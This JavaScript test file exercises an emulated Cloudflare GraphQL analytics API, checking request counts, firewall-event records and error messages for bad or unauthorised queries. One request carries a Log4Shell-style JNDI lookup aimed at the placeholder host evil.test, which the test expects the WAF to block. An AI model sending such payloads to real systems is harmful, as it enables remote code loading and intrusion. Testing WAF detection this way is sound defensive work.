// SPDX-License-Identifier: Apache-2.0
// Analytics as Cloudflare's clients ask for them: the same numbers as everywhere, and errors that say what is wrong.
import { scene, eq, ok, waitFor } from '../lib/scene.mjs'

async function node (s) {
  const app = await s.origin({ '/page': { body: 'hello', headers: { 'Cache-Control': 'no-store' } }, '/a.css': { body: 'x'.repeat(1000), headers: { 'Cache-Control': 'max-age=600' } } })
  const edge = await s.edge({ api: true, config: { edge: { addresses: '192.0.2.200' }, limits: { traffic_ms: 200 } } })
  const zone = (await edge.call('POST', '/zones', { name: 'one.test' })).result
  eq((await edge.call('PATCH', `/zones/${zone.id}/settings/ssl`, { value: 'flexible' })).status, 200)
  eq((await edge.call('POST', `/zones/${zone.id}/dns_records`, { type: 'A', name: 'www', content: '127.0.0.1', proxied: true })).status, 200)
  eq((await edge.call('PUT', `/zones/${zone.id}/rulesets/phases/http_request_origin/entrypoint`, { rules: [{ expression: 'true', action: 'route', action_parameters: { origin: { port: app.port } } }] })).status, 200)
  const ask = async (query, variables, token = edge.token) => {
    const r = await fetch(`${edge.base}/graphql`, { method: 'POST', headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }, body: JSON.stringify({ query, variables }) })
    return { status: r.status, ...await r.json() }
  }
  return { edge, zone, ask }
}

scene('requests by minute, hour, day and in all; what firewalls found', async s => {
  const { edge, zone, ask } = await node(s)
  for (let i = 0; i < 5; i++) for (const path of ['/page', '/a.css']) eq((await edge.get(path, { host: 'www.one.test' })).status, 200)
  eq((await edge.get('/page?x=${jndi:ldap://evil.test/a}', { host: 'www.one.test', headers: { 'User-Agent': '${jndi:ldap://evil.test/a}' } })).status, 403)
  const totals = async () => (await edge.call('GET', `/zones/${zone.id}/analytics?by=day`)).result.totals
  await waitFor(async () => (await totals()).requests === 11, { within: 30000, every: 250, what: 'all requests in the numbers' })
  const all = await totals()

  const vars = { zone: zone.id, from: new Date(Date.now() - 3600e3).toISOString().replace(/\.\d+/, ''), day: new Date(Date.now() - 86400e3).toISOString().slice(0, 10) }
  const a = await ask(`query Requests($zone: String!, $from: Time!, $day: Date!, $limit: Int = 50) {
    viewer { zones(filter: { zoneTag: $zone }) { # one of them
      zoneTag
      minutes: httpRequests1mGroups(limit: $limit, filter: { datetime_geq: $from }, orderBy: [datetime_DESC]) { dimensions { datetime } sum { requests bytes cachedRequests cachedBytes threats } uniq { uniques } }
      httpRequests1hGroups(limit: 5) { sum { requests } }
      httpRequests1dGroups(limit: 5, filter: { date_geq: $day }, orderBy: date_ASC) { dimensions { date } sum { requests, pageViews } }
      httpRequestsAdaptiveGroups(filter: {datetime_geq: $from}, limit: 1) { count sum { edgeResponseBytes } }
      firewallEventsAdaptive(filter: { datetime_geq: $from }, limit: 10, orderBy: [datetime_DESC]) { action clientIP clientRequestPath clientRequestHTTPHost clientRequestHTTPMethodName datetime rayName source ruleId }
    } } }`, vars)
  eq([a.status, a.errors], [200, null], JSON.stringify(a))
  const [z] = a.data.viewer.zones
  eq(z.zoneTag, zone.id)
  const sum = (rows, what) => rows.reduce((n, r) => n + r.sum[what], 0)
  eq([sum(z.minutes, 'requests'), sum(z.minutes, 'cachedRequests'), sum(z.minutes, 'threats'), sum(z.minutes, 'bytes'), sum(z.minutes, 'cachedBytes')], [all.requests, all.cached, all.threats, all.bytes, all.cached_bytes])
  eq([sum(z.httpRequests1hGroups, 'requests'), sum(z.httpRequests1dGroups, 'requests')], [11, 11])
  eq(z.httpRequestsAdaptiveGroups, [{ count: 11, sum: { edgeResponseBytes: all.bytes } }])
  ok(/^\d{4}-\d\d-\d\d$/.test(z.httpRequests1dGroups[0].dimensions.date))
  eq([z.minutes[0].uniq, z.httpRequests1dGroups[0].sum.pageViews], [null, null])
  eq(a.extensions.not_kept.sort(), ['pageViews', 'uniq'])
  eq(z.firewallEventsAdaptive.length, 1)
  const [event] = z.firewallEventsAdaptive
  eq([event.action, event.clientIP, event.clientRequestPath, event.clientRequestHTTPHost, event.clientRequestHTTPMethodName, event.source], ['block', '127.0.0.1', '/page', 'www.one.test', 'GET', 'waf'])
  const empty = await ask(`{ viewer { zones(filter: { zoneTag_in: ["${zone.id}"] }) { httpRequests1dGroups(limit: 1, filter: { date_lt: "2020-01-01", date_geq: "2019-01-01" }) { sum { requests } } } } }`)
  eq(empty.data.viewer.zones, [{ httpRequests1dGroups: [] }])
})

scene('what cannot be answered is an error that says why, with no data beside it', async s => {
  const { edge, zone, ask } = await node(s)
  const inZone = body => `{ viewer { zones(filter: { zoneTag: "${zone.id}" }) { ${body} } } }`
  const refused = async (query, pattern, variables, token) => {
    const r = await ask(query, variables, token)
    eq([r.status, r.data], [200, null], query)
    ok(r.errors.length === 1 && pattern.test(r.errors[0].message), `${query}: ${JSON.stringify(r.errors)}`)
  }
  await refused(inZone('httpRequests1dGroups { sum { visitors } }'), /unknown field "visitors"/)
  await refused(inZone('rumPageloadEventsAdaptiveGroups { count }'), /unknown field.*httpRequests1mGroups/)
  await refused(inZone('httpRequests1dGroups'), /needs a selection/)
  await refused(inZone('httpRequests1dGroups(limit: 0) { count }'), /from 1 to 3000/)
  await refused(inZone('httpRequests1dGroups(filter: { clientCountryName: "DE" }) { count }'), /clientCountryName/)
  await refused(inZone('httpRequests1dGroups(filter: { date_geq: "yesterday" }) { count }'), /date like/)
  await refused(inZone('httpRequests1dGroups(orderBy: sum_requests_DESC) { count }'), /orderBy/)
  await refused(inZone('firewallEventsAdaptive { colour }'), /unknown field "colour"/)
  // a query costs control a bounded time, however often it names a group
  const many = Array.from({ length: 450 }, (_, i) => `a${i}: httpRequests1hGroups { count }`).join(' ')
  eq((await ask(inZone(many))).errors, null)
  for (let i = 0; i < 7; i++) await edge.call('POST', '/zones', { name: `more${i}.test` })
  const ids = (await edge.call('GET', '/zones')).result.map(z => z.id)
  await refused(`{ viewer { zones(filter: { zoneTag_in: ${JSON.stringify(ids)} }) { ${many} } } }`, /too much for one query/)
  await refused('{ viewer { accounts { id } } }', /unknown field "accounts"/)
  await refused('{ viewer { zones { zoneTag } } }', /zoneTag_in/)
  await refused('{ viewer { zones(filter: { zoneTag: "0123456789abcdef0123456789abcdef" }) { zoneTag } } }', /not there/)
  await refused('{ viewer { zones(filter: { zoneTag: $z }) { zoneTag } } }', /1:\d+: a variable that has no value/)
  await refused('mutation { x }', /only queries/)
  await refused('{ viewer { ...F } } fragment F on V { zones { zoneTag } }', /fragments are not understood/)
  await refused('{ viewer ', /expected the name of a field/)
  await refused(' ', /expected \{/)
  await refused('{'.repeat(5000), /./)
  await refused(`{ a(b: ${'['.repeat(5000)}) }`, /nested too deep/)
  await refused(`{ ${'x '.repeat(2000)} }`, /too many fields/)
  eq((await edge.call('POST', '/graphql', {})).status, 400)
  // a token for other things learns nothing
  const group = (await edge.call('GET', '/user/tokens/permission_groups')).result.find(g => g.name === 'API Tokens Read')
  const account = (await edge.call('GET', '/accounts')).result[0].id
  const token = (await edge.call('POST', '/user/tokens', { name: 'other', policies: [{ effect: 'allow', permission_groups: [{ id: group.id }], resources: { [`com.cloudflare.api.account.${account}`]: '*' } }] })).result.value
  await refused(inZone('zoneTag'), /may not read it/, undefined, token)
  eq((await ask(inZone('zoneTag'), undefined, 'x'.repeat(40))).status, 403)
})
